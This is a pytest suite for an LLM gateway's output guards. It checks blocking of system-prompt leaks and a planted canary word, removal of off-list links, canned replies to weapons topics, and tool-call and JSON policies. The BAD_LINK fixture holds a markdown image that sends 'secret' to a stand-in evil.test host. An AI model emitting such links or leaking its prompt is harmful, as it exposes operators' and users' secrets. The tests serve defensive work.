"""Judges of answers against real streams: OpenAI's own package, Envoy, the filter, a front end, Triton."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import NamedTuple

import httpx
import openai
import pytest
from live_traffic import noted, says
from openai import OpenAI
from real_parts import Gateway, GatewayMaker, StandIn

from extproc.demo.parts import OpenAIFront, Valkey

SYSTEM = (
    "You are Polly of Example Bank. Transfers above nine thousand need a second look by the desk in Leeds. "
    "Customers may not hear of the orange list."
)
LEAK = [
    "Well,",
    " transfers",
    " above",
    " nine",
    " thou",
    "sand need",
    " a second",
    " look by the desk",
    " and",
]
BAD_LINK = ["See ![x]", "(https://ev", "il.test/p.png?d=", "secret) and [y](https://ok.exam", "ple.com/z)."]
CANNED = "Let us talk of something else."
WEATHER = {
    "type": "function",
    "function": {
        "name": "get_weather",
        "parameters": {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]},
    },
}
JUDGES = """
      prompt_leak: {mode: MODE, canary: true}
      links: {mode: MODE, hosts: ["*.example.com"]}
      tool_policy: {mode: MODE, calls_max: 2}
      output_schema: {mode: MODE}
      moderation: {mode: MODE, answer: replace, canned: CANNED, topics: {weapons: [pipe bomb]}}
""".replace("CANNED", CANNED)
POLICY = """
version: 1
tenants:
  acme: {policy: judged, keys: [{id: acme-1, hash: "${ACME_HASH}"}]}
  watched: {policy: watched, keys: [{id: watched-1, hash: "${WATCHED_HASH}"}]}
policies:
"""
for name, mode in (("judged", "enforce"), ("watched", "shadow")):
    POLICY += f"""  {name}:
    guards:
      schema: {{models: [vllm_stand_in], output_tokens_max: 20000, choices_count_max: 2}}
      budget: {{limits: [{{window: minute, tokens: 1000000000}}]}}
      injection: {{mode: off}}
      pii: {{mode: {mode}, entity_types: [EMAIL_ADDRESS]}}
      secrets: {{mode: {mode}, entity_types: [AWS_ACCESS_KEY]}}
{JUDGES.replace("MODE", mode)}"""
# What differs between any two answers.
OWN = re.compile(rb"cmpl-[0-9a-f-]{36}|call_[0-9a-f]{24}|\"created\":[0-9]+")


@pytest.fixture(scope="module")
def gateway(
    tmp_path_factory: pytest.TempPathFactory, openai_front: OpenAIFront, valkey: Valkey
) -> Iterator[Gateway]:
    maker = GatewayMaker(tmp_path_factory, openai_front.port, valkey.url)
    yield maker(policy=POLICY, tenants=("acme", "watched"))
    maker.close()


@pytest.fixture(scope="module")
def client(gateway: Gateway) -> Iterator[OpenAI]:
    key = gateway.credentials.keys["acme"]
    with OpenAI(base_url=f"{gateway.url}/v1", api_key=key, max_retries=0, timeout=60) as one:
        yield one


def asked(stand_in: StandIn, tokens: list[str], *, stream: bool = True, **request: object) -> dict:
    messages = [{"role": "system", "content": SYSTEM}, {"role": "user", "content": says(stand_in, tokens)}]
    return {"model": stand_in.model, "messages": messages, "max_tokens": 64, "stream": stream, **request}


class Heard(NamedTuple):
    """What a client gets to read of a stream, and the error with which it ends."""

    text: str
    error: openai.APIError | None
    request_id: str


def heard(client: OpenAI, request: dict) -> Heard:
    text = ""
    try:
        stream = client.chat.completions.create(**request)
    except openai.APIStatusError as error:
        # Refused before anything of it went out.
        return Heard("", error, error.request_id or "")
    with stream:
        request_id = stream.response.headers["x-request-id"]
        try:
            for chunk in stream:
                text += "".join(choice.delta.content or "" for choice in chunk.choices)
        except openai.APIError as error:
            return Heard(text, error, request_id)
    return Heard(text, None, request_id)


def test_a_system_prompt_that_leaks_is_cut(client: OpenAI, gateway: Gateway, stand_in: StandIn):
    text, error, request_id = heard(client, asked(stand_in, LEAK))
    # The words that stand in the prompt were held back, but for the first.
    assert text in {"", "Well,", "Well, ", "Well, transfers", "Well, transfers "}
    assert error is not None
    assert "prompt_leaked" in str(error.body)
    record = gateway.verdict(request_id)
    assert (record["action"], record["reason"], record["guard"]) == (
        "block",
        "prompt_leaked",
        "prompt_leak",
    )

    with pytest.raises(openai.PermissionDeniedError) as refused:
        client.chat.completions.create(**asked(stand_in, LEAK, stream=False))
    assert "Leeds" not in refused.value.response.text
    assert "desk" not in refused.value.response.text


def test_the_planted_word_reaches_the_model_and_never_the_client(
    client: OpenAI, gateway: Gateway, stand_in: StandIn
):
    messages = [{"role": "user", "content": "echo: "}, {"role": "system", "content": "Be kind."}]
    request = {"model": stand_in.model, "messages": messages, "max_tokens": 64, "stream": True}
    text, error, request_id = heard(client, request)
    (received,) = noted(stand_in, "received", "never to be repeated")[-1:]
    (word,) = re.findall(r"Internal reference (\w+), never", str(received["prompt"]))
    assert len(word) == 24
    assert error is not None
    assert word[:8] not in text
    assert [(one["entity_type"], one["lane"]) for one in gateway.verdict(request_id)["entities"]] == [
        ("CANARY", "response")
    ]


@pytest.mark.parametrize("stream", [True, False])
def test_a_link_to_another_host_is_taken_out(client: OpenAI, stand_in: StandIn, *, stream: bool):
    request = asked(stand_in, BAD_LINK, stream=stream)
    if stream:
        text, error, _ = heard(client, request)
        assert error is None
    else:
        text = client.chat.completions.create(**request).choices[0].message.content or ""
    assert text == "See ![x]([LINK]) and [y](https://ok.example.com/z)."


@pytest.mark.parametrize("stream", [True, False])
def test_a_topic_is_answered_in_the_policys_words(client: OpenAI, stand_in: StandIn, *, stream: bool):
    tokens = ["First, a pi", "pe ", "BOMB", " needs", " a", " pipe"]
    request = asked(stand_in, tokens, stream=stream)
    if stream:
        text, error, _ = heard(client, request)
        assert error is None
    else:
        answer = client.chat.completions.create(**request)
        text = answer.choices[0].message.content or ""
        assert answer.choices[0].finish_reason == "stop"
    assert text == f"First, a {CANNED}"


def call(*pieces: str, name: str = "get_weather") -> list[str]:
    return [f"<tool_call:{name}>", *pieces, "</tool_call>"]


GOOD_CALL = call('{"city"', ': "Os', 'lo"}')


@pytest.mark.parametrize(
    ("tokens", "found"),
    [
        (call('{"town"', ': "Oslo"}'), "TOOL_ARGUMENTS"),
        (call("{}", name="drop_tables"), "TOOL_NAME"),
        (GOOD_CALL * 3, "TOOL_CALLS"),
    ],
)
def test_a_call_that_is_not_allowed_is_cut(
    tokens: list[str], found: str, client: OpenAI, gateway: Gateway, stand_in: StandIn
):
    _, error, request_id = heard(client, asked(stand_in, tokens, tools=[WEATHER]))
    assert error is not None
    record = gateway.verdict(request_id)
    assert (record["reason"], record["guard"]) == ("tool_not_allowed", "tool_policy")
    assert [one["entity_type"] for one in record["entities"]] == [found]
    with pytest.raises(openai.PermissionDeniedError):
        client.chat.completions.create(**asked(stand_in, tokens, stream=False, tools=[WEATHER]))


def test_a_call_that_is_allowed_comes_whole(client: OpenAI, stand_in: StandIn):
    arguments = ""
    with client.chat.completions.create(**asked(stand_in, GOOD_CALL, tools=[WEATHER])) as stream:
        for chunk in stream:
            for choice in chunk.choices:
                arguments += "".join(one.function.arguments for one in choice.delta.tool_calls or ())
    assert json.loads(arguments) == {"city": "Oslo"}


JSON_ASKED = {
    "type": "json_schema",
    "json_schema": {"name": "city", "schema": WEATHER["function"]["parameters"]},
}


def test_an_answer_that_is_not_the_json_it_must_be_may_be_tried_again(
    client: OpenAI, gateway: Gateway, stand_in: StandIn
):
    request = asked(stand_in, ['{"town": ', '"Oslo"}'], stream=False, response_format=JSON_ASKED)
    with pytest.raises(openai.InternalServerError) as refused:
        client.with_options(max_retries=1).chat.completions.create(**request)
    assert (refused.value.status_code, "try again" in str(refused.value.body)) == (502, True)
    name = request["messages"][1]["content"].split()[1]
    # OpenAI's package took it for a failure of the server's, and asked again.
    assert len(noted(stand_in, "received", name)) == 2
    assert gateway.verdict(refused.value.request_id or "")["reason"] == "output_invalid"

    text, error, _ = heard(client, {**request, "stream": True})
    assert (text, error is not None) == ("", True)
    good = asked(stand_in, ['{"city": ', '"Oslo"}'], response_format=JSON_ASKED)
    assert heard(client, good)[:2] == ('{"city": "Oslo"}', None)


@pytest.mark.parametrize("stream", [True, False])
def test_in_shadow_no_byte_changes_and_everything_is_told(
    gateway: Gateway, openai_front: OpenAIFront, stand_in: StandIn, *, stream: bool
):
    tokens = [*LEAK, " ", *BAD_LINK, " a pipe bomb", *call('{"town"', ': "x"}')]
    body = asked(
        stand_in, tokens, stream=stream, n=2, tools=[WEATHER], response_format={"type": "json_object"}
    )
    with (
        gateway.client("watched") as through,
        httpx.Client(base_url=f"http://127.0.0.1:{openai_front.port}", timeout=60) as straight,
    ):
        answers = [one.post("/v1/chat/completions", json=body) for one in (through, straight)]
    assert [answer.status_code for answer in answers] == [200, 200]
    # Counts are asked for, and hidden again.
    own, theirs = (OWN.sub(b"", answer.content) for answer in answers)
    assert own == theirs
    record = gateway.verdict(answers[0].headers["x-request-id"])
    assert (record["action"], record["reason"]) == ("allow", "clean")
    assert {(one["guard"], one["mode"], one["entity_type"]) for one in record["entities"]} >= {
        ("prompt_leak", "shadow", "SYSTEM_PROMPT"),
        ("links", "shadow", "LINK"),
        ("moderation", "shadow", "TOPIC_WEAPONS"),
        ("output_schema", "shadow", "OUTPUT_JSON"),
        ("tool_policy", "shadow", "TOOL_ARGUMENTS"),
    }
